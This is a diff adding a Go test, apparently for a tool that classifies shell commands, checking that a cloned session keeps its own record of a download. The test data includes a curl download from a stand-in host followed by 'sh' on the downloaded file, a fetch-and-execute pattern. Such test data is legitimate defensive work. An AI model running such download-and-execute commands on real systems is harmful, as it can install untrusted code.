@@ -116,3 +116,20 @@ func TestComposedDetail(t *testing.T) {
 	}
 	t.Fatalf("no exec-fetched effect in %v", got)
 }
+
+// TestSessionClone: what a clone learns does not reach the original.
+func TestSessionClone(t *testing.T) {
+	s := NewSession()
+	s.Shell("echo hi")
+	c := s.Clone()
+	c.Shell("curl -o /tmp/x https://e.com/x")
+	if got := kindsOf(s.Shell("sh /tmp/x")); len(got) != 0 {
+		t.Fatalf("the original saw the clone's download: %v", got)
+	}
+	if got := kindsOf(c.Shell("sh /tmp/x")); !sameKinds(got, []Kind{ExecFetched}) {
+		t.Fatalf("the clone lost its download: %v", got)
+	}
+	if s.Commands() != 2 || c.Commands() != 3 {
+		t.Fatalf("commands %d and %d, want 2 and 3", s.Commands(), c.Commands())
+	}
+}
